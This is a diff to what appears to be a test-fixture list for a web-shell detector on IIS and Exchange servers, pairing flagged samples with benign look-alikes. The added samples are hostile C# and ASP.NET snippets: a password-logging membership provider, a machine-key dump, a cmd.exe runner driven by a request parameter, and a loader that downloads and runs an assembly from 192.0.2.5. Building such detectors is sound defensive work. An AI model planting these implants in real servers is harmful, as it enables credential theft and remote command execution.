@@ -320,4 +320,124 @@ PLANTS = [
     _twin(
         4, "firewall before each PHP page", ".user.ini", "auto_prepend_file = 'C:\\inetpub\\wwwroot\\wordfence-waf.php'"
     ),
+    _code(
+        "a provider of members that keeps passwords",
+        "WSH1010",
+        (
+            f"{_USING}public class Members : System.Web.Security.SqlMembershipProvider {{\n"
+            "  public override bool ValidateUser(string username, string password) {\n"
+            '    File.Append·AllText(@"C:\\Windows\\Temp\\t.log", username + ":" + password);\n'
+            "    return base.ValidateUser(username, password); } }\n"
+        ),
+    ),
+    _code(
+        "a listener that starts nothing",
+        "WSH1016",
+        _start('var l = new Http·Listener(); l.Pre·fixes.Add("https://*:443/ews/health/"); l.Start();'),
+    ),
+    _code(
+        "AppInitialize that files the keys",
+        "WSH1017",
+        _start(
+            "var k = (System.Web.Configuration.Machine·Key·Section)System.Web.Configuration.WebConfigurationManager"
+            '.GetSection("system.web/machine·Key");'
+            ' File.Write·AllText(@"C:\\inetpub\\wwwroot\\k.txt", k.Validation·Key);'
+        ),
+    ),
+    _code(
+        "AppInitialize that starts a program of a share",
+        "WSH1030",
+        _start('Pro·cess.Sta·rt(@"\\\\192.0.2.5\\share\\a.exe");'),
+    ),
+    _code(
+        "AppInitialize that loads what it downloads",
+        "WSH1005",
+        _start('Assem·bly.Lo·ad(new System.Net.Web·Client().Download·Data("http://192.0.2.5/a")).CreateInstance("A");'),
+    ),
+    _code(
+        "AppInitialize that plants a page",
+        "WSH9134",
+        _start(
+            'File.Write·AllText(System.Web.Hosting.HostingEnvironment.MapPath("~/help.aspx"),'
+            ' "<\x25@ Page Language=\\"C#\\" \x25><\x25 Response.Write(1); \x25>");'
+        ),
+    ),
+    _code(
+        "events of the application",
+        "WSH1002",
+        (
+            f"{_USING}public class Global : HttpApplication {{\n"
+            "  protected void Application_BeginRequest(object sender, EventArgs e) {"
+            ' if (Request["c"] != null) Pro·cess.Sta·rt("cm·d.exe", "/c " + Request["c"]); } }\n'
+        ),
+    ),
+    _code(
+        "a factory of handlers",
+        "WSH1002",
+        (
+            f"{_USING}public class Makers : IHttpHandlerFactory {{\n"
+            "  public IHttpHandler GetHandler(HttpContext context, string kind, string url, string path) {"
+            ' Pro·cess.Sta·rt(context.Request["a"]); return null; }\n'
+            "  public void ReleaseHandler(IHttpHandler handler) { } }\n"
+        ),
+    ),
+    _code(
+        "a handler that compiles",
+        "WSH1003",
+        _handler(
+            "new Microsoft.CSharp.CSharpCode·Provider().Compile·AssemblyFromSource("
+            'new System.CodeDom.Compiler.CompilerParameters(), context.Request["s"])'
+            '.CompiledAssembly.CreateInstance("A");'
+        ),
+    ),
+    _code(
+        "a handler that deserialises",
+        "WSH1003",
+        _handler('new System.Web.UI.Los·Formatter().Deseria·lize(context.Request["v"]);'),
+    ),
+    honest(
+        2,
+        "App_Code, a provider of members",
+        added(
+            f"{_CODE}/Members.cs",
+            (
+                f"{_USING}public class Members : System.Web.Security.SqlMembershipProvider {{\n"
+                "  public override bool ValidateUser(string username, string password) {\n"
+                '    File.AppendAllText(@"D:\\Logs\\login.log", DateTime.Now + " " + username + "\\n");\n'
+                "    return base.ValidateUser(username, password); } }\n"
+            ),
+        ),
+    ),
+    _file(
+        5,
+        "service of another maker in OWA",
+        "WSH2010",
+        "x.svc",
+        ('<\x25@ ServiceHost Factory="Trace.Factory, Trace" Service="Trace.Service, Trace" \x25>'),
+        f"{FRONT_END}/owa",
+    ),
+    _file(
+        3,
+        "application of another maker in ECP",
+        "WSH2010",
+        "global.asax",
+        ('<\x25@ Application Inherits="Trace.Application" \x25>'),
+        f"{FRONT_END}/ecp",
+    ),
+    _file(
+        4,
+        "workflow that loads a library",
+        "WSH2011",
+        "a.xamlx",
+        _WORKFLOW.format('<InvokeMethod TargetType="{x:Type r:Assem·bly}" MethodName="LoadFrom" />'),
+    ),
+    honest(
+        5,
+        "service of Exchange",
+        added(
+            f"{FRONT_END}/owa/x.svc",
+            ('<\x25@ ServiceHost Service="Microsoft.Exchange.Services.Wcf.A, Microsoft.Exchange.Services" \x25>'),
+        ),
+        most=Disposition.UNEXPLAINED,
+    ),
 ]
